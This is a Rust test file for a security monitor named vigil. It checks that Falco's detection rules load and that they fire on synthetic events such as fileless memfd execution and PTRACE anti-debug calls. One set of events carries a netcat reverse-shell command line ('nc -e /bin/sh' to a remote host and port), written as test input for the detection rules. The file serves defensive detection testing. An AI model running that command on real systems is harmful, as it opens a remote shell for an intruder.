//! Loading Falco's own stable rule file: it must load, skipping (with one
//! line each) the rules that need fields vigil does not supply.

mod common;

use common::Ev;
use monitor_rules::{DiagKind, LoadOptions, RuleSet};

#[path = "common/falco_file.rs"]
mod falco_file;
use falco_file::falco_rules;

#[test]
fn falco_stable_rules_load_without_skips() {
    let path = falco_rules();
    let (set, report) = RuleSet::load_paths(&[&path], &LoadOptions::default())
        .unwrap_or_else(|e| panic!("Falco's rule file must load:\n{e}"));
    for w in &report.warnings {
        println!("{}: warning: {}", w.pos, w.message);
    }
    for r in set.rules() {
        println!(
            "loaded: {} [{}]",
            r.name(),
            r.evt_types()
                .map(|t| t.collect::<Vec<_>>().join(","))
                .unwrap_or("*".into())
        );
    }
    println!("{}", report.summary());
    let skips: Vec<String> = report.skipped.iter().map(|s| s.to_string()).collect();
    assert!(skips.is_empty(), "{skips:#?}");
    assert_eq!(set.rules().len(), report.loaded);
    assert!(
        report.loaded >= 20,
        "Falco's file has many rules, saw {}",
        report.loaded
    );
    // Strict mode (unknown fields are errors) loads it too.
    RuleSet::load_paths(&[&path], &LoadOptions::strict()).unwrap_or_else(|e| panic!("strict: {e}"));
}

/// A Falco rule on a field vigil lacks: skipped with a line naming the
/// file, or, strict, an error naming the rule.
#[test]
fn a_rule_on_a_missing_falco_field_is_skipped_or_strictly_refused() {
    let dir = std::env::temp_dir().join(format!("vigil-falco-skip-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("rules.yaml");
    std::fs::write(
        &path,
        "- rule: Client name\n  desc: d\n  condition: evt.type=accept and fd.ino=5\n  \
         output: o\n  priority: NOTICE\n",
    )
    .unwrap();
    let (_, report) = RuleSet::load_paths(&[&path], &LoadOptions::default()).unwrap();
    assert_eq!(report.skipped.len(), 1);
    let s = &report.skipped[0];
    let line = s.to_string();
    assert!(line.starts_with(&format!("{}:", path.display())), "{line}");
    assert!(line.contains("rule 'Client name' skipped: "), "{line}");
    assert!(s.pos.line >= 1 && s.pos.col >= 1);
    let err = RuleSet::load_paths(&[&path], &LoadOptions::strict()).unwrap_err();
    let d = err.diagnostics();
    assert!(d.iter().all(|d| d.kind == DiagKind::Unsupported), "{err}");
    assert!(d[0].message.contains("is not supported"), "{}", d[0]);
    let _ = std::fs::remove_dir_all(&dir);
}

fn fired(set: &RuleSet, ev: &Ev) -> Vec<String> {
    set.matching(ev).map(|r| r.name().to_owned()).collect()
}

#[test]
fn falco_rules_fire_on_matching_events_and_not_on_near_misses() {
    let (set, _) = RuleSet::load_paths(&[falco_rules()], &LoadOptions::default()).unwrap();
    // runc re-executing itself from a memfd is excepted by Falco's own list.
    let memfd = |name: &str| {
        Ev::new("execve")
            .s("proc.name", name)
            .s("proc.pname", "containerd-shim")
            .b("proc.is_exe_from_memfd", true)
            .s("container.id", "0123456789ab")
    };
    assert_eq!(
        fired(&set, &memfd("x")),
        ["Fileless execution via memfd_create"]
    );
    assert!(fired(&set, &memfd("runc")).is_empty());
    let ptrace = |req: &str| {
        Ev::new("ptrace")
            .s("proc.name", "a.out")
            .s("evt.arg.request", req)
    };
    assert_eq!(
        fired(&set, &ptrace("PTRACE_TRACEME")),
        ["PTRACE anti-debug attempt"]
    );
    assert!(fired(&set, &ptrace("PTRACE_PEEKDATA")).is_empty());
    let nc = |cmd: &str, cid: &str| {
        Ev::new("execve")
            .s("proc.name", "nc")
            .s("proc.cmdline", cmd)
            .s("proc.args", cmd.trim_start_matches("nc "))
            .s("container.id", cid)
    };
    assert_eq!(
        fired(&set, &nc("nc -e /bin/sh 10.0.0.1 4444", "0123456789ab")),
        ["Netcat Remote Code Execution in Container"]
    );
    assert!(
        fired(&set, &nc("nc -e /bin/sh 10.0.0.1 4444", "host")).is_empty(),
        "not in a container"
    );
    assert!(fired(&set, &nc("nc -l 8080", "0123456789ab")).is_empty());
    // Output renders vigil's fields and <NA> for Falco-only ones.
    let ev = ptrace("PTRACE_TRACEME")
        .n("user.uid", 0)
        .s("proc.cmdline", "a.out");
    let r = set.matching(&ev).next().unwrap();
    let out = r.format_output(&ev);
    assert!(out.starts_with("Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=<NA> evt_type=ptrace user=<NA> user_uid=0"), "{out}");
    assert_eq!(r.priority().as_str(), "Notice");
    assert!(r.tags().iter().any(|t| t == "T1622"));
}
